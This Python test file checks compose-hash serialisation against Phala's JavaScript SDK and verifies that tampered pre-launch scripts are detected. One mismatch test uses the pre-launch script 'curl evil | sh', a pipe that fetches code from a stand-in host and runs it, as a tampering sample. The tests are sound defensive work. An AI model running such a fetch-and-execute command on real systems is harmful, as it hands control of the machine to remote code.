"""Compose-hash serialisation and verification (pure).

The reference for the ``js`` variant is Phala's own SDK: golden hashes below were produced with
``dumpAppCompose(preprocessAppCompose(x))`` of ``@phala/cloud`` 0.2.9, and the property tests run
that very code in a node process when node and the package are installed.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from cvm_prelaunch_operator.domain.compose_hash import (
    VARIANTS,
    AppComposeError,
    app_compose_with_script,
    compose_hash,
    compose_hash_variants,
    normalize_hash,
    parse_app_compose,
    preprocess_app_compose,
    serialize_app_compose,
    verify_compose_hash,
)

BASE: dict[str, Any] = {
    "allowed_envs": [],
    "default_gateway_domain": None,
    "docker_compose_file": 'services:\n  app:\n    image: nginx:1.27\n    ports: ["80:80"]\n',
    "features": ["kms", "tproxy-net"],
    "gateway_enabled": True,
    "kms_enabled": True,
    "local_key_provider_enabled": False,
    "manifest_version": 2,
    "name": "my-app",
    "no_instance_id": False,
    "pre_launch_script": "#!/bin/bash\necho hello\n",
    "public_logs": True,
    "public_sysinfo": True,
    "runner": "docker-compose",
    "salt": "05fcefaecd984204bb6ccf16938eaad5",
    "tproxy_enabled": True,
    "bash_script": "ignored",
}

# Hashes computed by @phala/cloud 0.2.9 (dumpAppCompose + sha256) from these exact objects.
GOLDEN: list[tuple[str, dict[str, Any], str]] = [
    ("ordinary", BASE, "ef138b0833c6ed86f17151e0d3c0c2a44d6a2cf45e7061c1a9e0a20cb9eee5a6"),
    (
        "empty script dropped",
        {**BASE, "pre_launch_script": ""},
        "4a6659cf81fe5d2c41b64f92810ef56a8f2e0e71962d8d4c5f0d73e64b4d58dc",
    ),
    (
        "no script",
        {k: v for k, v in BASE.items() if k != "pre_launch_script"},
        "4a6659cf81fe5d2c41b64f92810ef56a8f2e0e71962d8d4c5f0d73e64b4d58dc",
    ),
    (
        "colon-space inside a string",
        {**BASE, "pre_launch_script": "echo '{\"a\": 1}'\n"},
        "c860bb52aa053dce8816713dae6082f34229faa0018c03e45f13fcfb619ef47f",
    ),
    (
        "non-ASCII",
        {**BASE, "pre_launch_script": "echo 'héllo wörld ✓ 😀'\n", "name": "日本"},
        "c0b03209a33f5711af25e85ee4f611b1ee1ffa3a9c06e8edbafa64b51ec83714",
    ),
    (
        "bash runner",
        {**BASE, "runner": "bash"},
        "c026bb5e533f425ab415761160302174ffdcaa1dcd0798a8451fe1be8c9242db",
    ),
]


@pytest.mark.parametrize(("label", "app_compose", "expected"), GOLDEN, ids=[g[0] for g in GOLDEN])
def test_js_variant_matches_phala_sdk_golden_hashes(
    label: str, app_compose: dict[str, Any], expected: str
) -> None:
    assert compose_hash(app_compose) == expected


def test_serialisation_layout_is_the_sdk_layout() -> None:
    text = serialize_app_compose(
        {"runner": "docker-compose", "b": {"x": [1, {}], "a": []}, "bash_script": "x"}
    )
    assert text == (
        '{\n    "b":{\n        "a":[],\n        "x":[\n            1,\n            {}\n        ]\n    },\n'
        '    "runner":"docker-compose"\n}'
    )


def test_runner_specific_fields_are_dropped() -> None:
    prepared = preprocess_app_compose({"runner": "bash", "docker_compose_file": "x", "bash_script": "y"})
    assert prepared == {"runner": "bash", "bash_script": "y"}
    prepared = preprocess_app_compose(
        {"runner": "docker-compose", "docker_compose_file": "x", "bash_script": "y"}
    )
    assert prepared == {"runner": "docker-compose", "docker_compose_file": "x"}
    # Another runner keeps both, as the SDK does.
    assert (
        len(preprocess_app_compose({"runner": "other", "docker_compose_file": "x", "bash_script": "y"})) == 3
    )


@pytest.mark.parametrize("empty", ["", None, False, 0])
def test_falsy_script_is_dropped_like_javascript(empty: object) -> None:
    assert "pre_launch_script" not in preprocess_app_compose({"runner": "bash", "pre_launch_script": empty})


def test_preprocess_does_not_change_its_input() -> None:
    original = {"runner": "bash", "docker_compose_file": "x", "pre_launch_script": ""}
    preprocess_app_compose(original)
    assert original == {"runner": "bash", "docker_compose_file": "x", "pre_launch_script": ""}


def test_variants_differ_only_in_the_corners() -> None:
    ordinary = compose_hash_variants(BASE)
    assert len(set(ordinary.values())) == 1
    colon = compose_hash_variants({**BASE, "pre_launch_script": 'echo "a": "b"'})
    assert colon["js"] != colon["python"] == colon["python-ascii"]
    accents = compose_hash_variants({**BASE, "name": "café"})
    assert accents["js"] == accents["python"] != accents["python-ascii"]


def test_javascript_number_and_key_semantics() -> None:
    text = serialize_app_compose(
        {
            "n": [1.0, -0.0, 1e21, 1e-7, 0.000001, 1.5e300, 2**60, 123.456],
            "k": {"10": 1, "9": 2, "a": 3, "01": 4, "2\n": 5},
        }
    )
    # Array-index keys first in numeric order; "2\n" is not one (a trailing newline is no digit).
    assert (
        '"k":{\n        "9":2,\n        "10":1,\n        "01":4,\n        "2\\n":5,\n        "a":3\n    }'
        in text
    )
    assert "1,\n        0,\n        1e+21,\n        1e-7,\n        0.000001,\n        1.5e+300," in text
    assert "1152921504606847000" in text  # 2**60 printed with the shortest round-trip digits, as JS does
    assert "123.456" in text


def test_javascript_string_escapes() -> None:
    text = serialize_app_compose({"s": '\x00\x1f\x7f\b\t\n\f\r"\\\u2028\ud800'})
    assert '"s":"\\u0000\\u001f\x7f\\b\\t\\n\\f\\r\\"\\\\\u2028\\ud800"' in text


def test_values_json_cannot_represent_are_refused() -> None:
    with pytest.raises(AppComposeError):
        compose_hash({"runner": "bash", "x": object()})
    with pytest.raises(AppComposeError):
        compose_hash({"runner": "bash", "x": {1: "non-string key"}})
    # Python's json refuses NaN; JS writes null.
    assert "python" not in compose_hash_variants({"x": float("nan")})
    assert compose_hash_variants({"x": float("nan")})["js"] == "0x" + compose_hash({"x": None})


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[1, 2]", "not an object"),
        ("{", "not valid JSON"),
        ('{"a": NaN}', "not valid JSON"),
        ("", "not valid JSON"),
    ],
)
def test_parse_app_compose_is_strict(text: str, problem: str) -> None:
    with pytest.raises(AppComposeError, match=problem):
        parse_app_compose(text)


def test_app_compose_with_script_replaces_only_the_script() -> None:
    text = serialize_app_compose(BASE)
    updated = app_compose_with_script(text, b"#!/bin/sh\nexit 0\n")
    assert updated["pre_launch_script"] == "#!/bin/sh\nexit 0\n"
    assert {k: v for k, v in updated.items() if k != "pre_launch_script"} == {
        k: v for k, v in preprocess_app_compose(BASE).items() if k != "pre_launch_script"
    }
    with pytest.raises(AppComposeError, match="not valid UTF-8"):
        app_compose_with_script(text, b"\xff\xfe")


def test_normalize_hash() -> None:
    digest = "AB" * 32
    assert normalize_hash(digest) == "0x" + "ab" * 32
    assert normalize_hash("0x" + digest) == "0x" + "ab" * 32
    for bad in (None, "", "0x", "ab" * 31, "zz" * 32, "0x" + "ab" * 33):
        assert normalize_hash(bad) is None


# --- verification ------------------------------------------------------------------------------


def _current(app_compose: dict[str, Any]) -> tuple[str, str]:
    """A CVM's app-compose text as the server writes it and its compose hash."""
    text = serialize_app_compose(app_compose)
    return text, hashlib.sha256(text.encode()).hexdigest()


def test_verify_matches_the_server_hash_as_received() -> None:
    text, current_hash = _current(BASE)
    script = "#!/bin/bash\necho new\n"
    claimed = compose_hash({**BASE, "pre_launch_script": script})
    for form in (claimed, "0x" + claimed, claimed.upper()):
        result = verify_compose_hash(text, "0x" + current_hash, script.encode(), form)
        assert result.outcome == "match", result.detail
        assert result.matched
        assert result.claimed == form  # echoed unchanged
        assert result.expected == "0x" + claimed
        assert result.variant == "js"
        assert "byte-identical to its js/python/python-ascii serialisation" in result.detail


def test_verify_reports_mismatch_with_both_hashes() -> None:
    text, current_hash = _current(BASE)
    other = compose_hash({**BASE, "pre_launch_script": "curl evil | sh"})
    result = verify_compose_hash(text, current_hash, "echo good", other)
    assert result.outcome == "mismatch"
    assert result.claimed == other
    assert result.expected == "0x" + compose_hash({**BASE, "pre_launch_script": "echo good"})
    assert other in result.detail
    assert set(result.candidates) == set(VARIANTS)


def test_verify_rejects_a_hash_of_a_changed_compose_file() -> None:
    text, current_hash = _current(BASE)
    swapped = {
        **BASE,
        "docker_compose_file": "services:\n  evil:\n    image: evil\n",
        "pre_launch_script": "x",
    }
    result = verify_compose_hash(text, current_hash, "x", compose_hash(swapped))
    assert result.outcome == "mismatch"


def test_verify_malformed_claim_is_a_mismatch() -> None:
    text, current_hash = _current(BASE)
    result = verify_compose_hash(text, current_hash, "x", "not-a-hash")
    assert result.outcome == "mismatch"
    assert "not a 32-byte hex" in result.detail


@pytest.mark.parametrize(
    ("current_hash", "why"),
    [
        (None, "reports no compose hash"),
        ("", "reports no compose hash"),
        ("xyz", "malformed"),
        ("00" * 32, "not what the CVM runs"),
    ],
)
def test_verify_cannot_verify_when_the_current_text_is_not_what_the_cvm_runs(
    current_hash: str | None, why: str
) -> None:
    text, _ = _current(BASE)
    result = verify_compose_hash(text, current_hash, "x", compose_hash({**BASE, "pre_launch_script": "x"}))
    assert result.outcome == "cannot_verify"
    assert why in result.detail
    assert result.expected is None


def test_verify_cannot_verify_unreadable_inputs() -> None:
    not_json = "this is not json"
    result = verify_compose_hash(not_json, hashlib.sha256(not_json.encode()).hexdigest(), "x", "00" * 32)
    assert result.outcome == "cannot_verify"
    assert "not valid JSON" in result.detail
    text, current_hash = _current(BASE)
    result = verify_compose_hash(text, current_hash, b"\xc3\x28", "00" * 32)
    assert result.outcome == "cannot_verify"
    assert "UTF-8" in result.detail
    result = verify_compose_hash("\ud800", "00" * 32, "x", "00" * 32)
    assert result.outcome == "cannot_verify"


@pytest.mark.parametrize(
    ("script", "server_variant"),
    [
        ("echo '{\"a\": 1}'", "python"),  # the JS replace rewrites it; a Python server would not
        ("echo '{\"a\": 1}'", "js"),
        ("echo 'grüße'", "python-ascii"),  # a server that escapes non-ASCII
        ("echo 'grüße'", "python"),
    ],
)
def test_verify_accepts_either_faithful_variant_and_says_which(script: str, server_variant: str) -> None:
    text, current_hash = _current(BASE)
    claimed = compose_hash({**BASE, "pre_launch_script": script}, server_variant)  # type: ignore[arg-type]
    result = verify_compose_hash(text, current_hash, script, claimed)
    assert result.outcome == "match", result.detail
    assert result.candidates[result.variant or "js"] == "0x" + claimed
    assert server_variant in result.detail


def test_verify_empty_new_script_removes_the_field() -> None:
    text, current_hash = _current(BASE)
    without = {k: v for k, v in BASE.items() if k != "pre_launch_script"}
    result = verify_compose_hash(text, current_hash, b"", compose_hash(without))
    assert result.outcome == "match"


# --- properties ----------------------------------------------------------------------------------

_keys = st.text(st.characters(codec="utf-8"), max_size=8) | st.sampled_from(
    ["0", "1", "10", "9", "01", "-1", "a", "é", "1\n", "4294967294", "4294967295"]
)
_strings = st.text(st.characters(codec="utf-8"), max_size=20) | st.sampled_from(
    ['": ', 'a": "b', "\u2028", "😀", "\ud800", "a\udc00b"]  # lone surrogates: what a JSON escape can carry
)
_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False, allow_infinity=False)
    | _strings
)
_json_values = st.recursive(
    _scalars,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(_keys, children, max_size=4),
    max_leaves=12,
)
_app_composes = st.fixed_dictionaries(
    {"runner": st.sampled_from(["docker-compose", "bash", "other"])},
    optional={
        "pre_launch_script": _strings,
        "docker_compose_file": _strings,
        "bash_script": _strings,
        "name": _strings,
        "manifest_version": st.integers(0, 3),
    },
).flatmap(lambda base: st.dictionaries(_keys, _json_values, max_size=5).map(lambda extra: {**extra, **base}))

# Content where every variant must agree: no ": " in strings, ASCII only, integers, no index keys.
# The JS SDK's serialisation ends with replace('": ', '":') over the whole text, which also rewrites a
# string that contains '": ' or starts with ': ' (its opening quote before it): content the variants
# legitimately disagree on, left out of "ordinary" content.
_plain_text = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=20).filter(
    lambda s: '": ' not in s and not s.startswith(": ")
)
_plain_keys = st.text(st.characters(min_codepoint=0x61, max_codepoint=0x7A), min_size=1, max_size=6)
_plain_values = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**53), 2**53) | _plain_text,
    lambda children: st.lists(children, max_size=3) | st.dictionaries(_plain_keys, children, max_size=3),
    max_leaves=10,
)


class _NodeSdk:
    """Phala's own JS SDK (``dumpAppCompose(preprocessAppCompose(x))``) in one long-lived node process."""

    SCRIPT = r"""
const readline = require('readline');
const sdk = require(process.argv[1]);
const rl = readline.createInterface({ input: process.stdin });
rl.on('line', (line) => {
  const text = sdk.dumpAppCompose(sdk.preprocessAppCompose(JSON.parse(line)));
  process.stdout.write(JSON.stringify(text) + '\n');
});
"""

    def __init__(self, node: str, package: str) -> None:
        self._process = subprocess.Popen(
            [node, "-e", self.SCRIPT, package],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            encoding="utf-8",
        )

    def dump(self, app_compose: dict[str, Any]) -> str:
        assert self._process.stdin is not None
        assert self._process.stdout is not None
        # ensure_ascii keeps it on one line and carries lone surrogates as escapes, which JS reads back.
        self._process.stdin.write(json.dumps(app_compose, ensure_ascii=True) + "\n")
        self._process.stdin.flush()
        line = self._process.stdout.readline()
        assert line, "the node SDK process ended"
        text = json.loads(line)
        assert isinstance(text, str)
        return text

    def close(self) -> None:
        if self._process.stdin is not None:
            self._process.stdin.close()
        try:
            self._process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self._process.kill()
            self._process.wait(timeout=10)
        if self._process.stdout is not None:
            self._process.stdout.close()


@pytest.fixture(scope="module")
def node_sdk() -> Iterator[_NodeSdk]:
    from cvm_prelaunch_localenv.paths import node_modules

    node = shutil.which("node")
    package = node_modules() / "@phala" / "cloud"
    if node is None or not (package / "package.json").exists():
        pytest.skip("node or @phala/cloud is not installed (run hack/bootstrap.sh)")
    sdk = _NodeSdk(node, str(package))
    yield sdk
    sdk.close()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(app_compose=_app_composes)
def test_js_variant_is_byte_identical_to_phala_sdk(node_sdk: _NodeSdk, app_compose: dict[str, Any]) -> None:
    assert serialize_app_compose(app_compose, "js") == node_sdk.dump(app_compose)


@settings(deadline=None)  # timing on a shared 2-core machine is no property of the code
@given(extra=st.dictionaries(_plain_keys, _plain_values, max_size=6), script=_plain_text)
def test_all_variants_agree_on_ordinary_content(extra: dict[str, Any], script: str) -> None:
    app_compose = {**extra, "runner": "docker-compose", "pre_launch_script": script}
    texts = {variant: serialize_app_compose(app_compose, variant) for variant in VARIANTS}
    assert len(set(texts.values())) == 1
    # And that text is the reference form: Python's own JSON with the SDK's separators.
    reference = json.dumps(
        preprocess_app_compose(app_compose),
        sort_keys=True,
        indent=4,
        separators=(",", ":"),
        ensure_ascii=False,
    )
    assert texts["js"] == reference


@settings(deadline=None)  # timing on a shared 2-core machine is no property of the code
@given(app_compose=_app_composes, variant=st.sampled_from(["python", "python-ascii"]))
def test_python_variants_round_trip(app_compose: dict[str, Any], variant: str) -> None:
    try:
        text = serialize_app_compose(app_compose, variant)  # type: ignore[arg-type]
        text.encode("utf-8")
    except (AppComposeError, UnicodeEncodeError):
        assume(False)
    assert json.loads(text) == preprocess_app_compose(app_compose)


@settings(deadline=None)  # timing on a shared 2-core machine is no property of the code
@given(app_compose=_app_composes, seed=st.randoms(use_true_random=False))
def test_key_order_of_the_input_does_not_matter(app_compose: dict[str, Any], seed: Any) -> None:
    items = list(app_compose.items())
    seed.shuffle(items)
    assert compose_hash_variants(dict(items)) == compose_hash_variants(app_compose)


@settings(deadline=None)  # timing on a shared 2-core machine is no property of the code
@given(app_compose=_app_composes, first=_strings, second=_strings)
def test_hash_changes_iff_the_non_empty_script_changes(
    app_compose: dict[str, Any], first: str, second: str
) -> None:
    assume(first and second)
    a = compose_hash({**app_compose, "pre_launch_script": first})
    b = compose_hash({**app_compose, "pre_launch_script": second})
    if first == second:
        assert a == b
    elif first.replace('": ', '":') != second.replace('": ', '":'):
        # Only the JS replace can merge two scripts (``a": b`` and ``a":b``); anything else differs.
        assert a != b
    assert (
        compose_hash_variants({**app_compose, "pre_launch_script": first})["python-ascii"]
        != (compose_hash_variants({**app_compose, "pre_launch_script": second})["python-ascii"])
        or first == second
    )


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(app_compose=_app_composes, script=_strings, other=_strings)
def test_verification_round_trip(app_compose: dict[str, Any], script: str, other: str) -> None:
    try:
        text, current_hash = _current(app_compose)
    except (AppComposeError, UnicodeEncodeError):
        assume(False)
    try:
        claimed = compose_hash({**json.loads(text), "pre_launch_script": script})
    except AppComposeError:
        assume(False)
    result = verify_compose_hash(text, current_hash, script, claimed)
    assert result.outcome == "match", result.detail
    tampered = verify_compose_hash(text, current_hash, script, "0x" + hashlib.sha256(b"other").hexdigest())
    assert tampered.outcome == "mismatch"
    assert verify_compose_hash(text + " ", current_hash, script, claimed).outcome == "cannot_verify"
    if other.replace('": ', '":') != script.replace('": ', '":') and (other or script):
        assert verify_compose_hash(text, current_hash, other, claimed).outcome == "mismatch"


def test_deep_nesting_is_refused_before_it_reaches_the_c_stack() -> None:
    # web3 (py_ecc) raises the recursion limit to 100000, where the C decoder overflows the stack.
    import sys

    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(max(limit, 100_000))
    try:
        with pytest.raises(AppComposeError, match="nested deeper"):
            parse_app_compose("[" * 200_000)
        with pytest.raises(AppComposeError, match="nested deeper"):
            parse_app_compose('{"a":' * 100 + "1" + "}" * 100)
    finally:
        sys.setrecursionlimit(limit)
    # Brackets inside strings are text, not nesting.
    assert parse_app_compose(json.dumps({"s": "[{" * 1000})) == {"s": "[{" * 1000}


def test_every_escape_class_matches_the_sdk(node_sdk: _NodeSdk) -> None:
    every_ascii = "".join(chr(c) for c in range(0x80))
    tricky = {
        "ascii": every_ascii,
        "separators": "\u2028\u2029\x7f\x85\ufeff",
        "lone": ["\ud800", "\udfff", "a\udbffb", "\udc00\ud800"],
        "astral": "😀𝄞",
        every_ascii[0x20:]: "key with every printable character",
        "runner": "docker-compose",
    }
    assert serialize_app_compose(tricky) == node_sdk.dump(tricky)
    # A surrogate pair spelled as two code points is one character to JS, as in the SDK.
    assert serialize_app_compose({"s": "\ud83d\ude00"}) == serialize_app_compose({"s": "😀"})
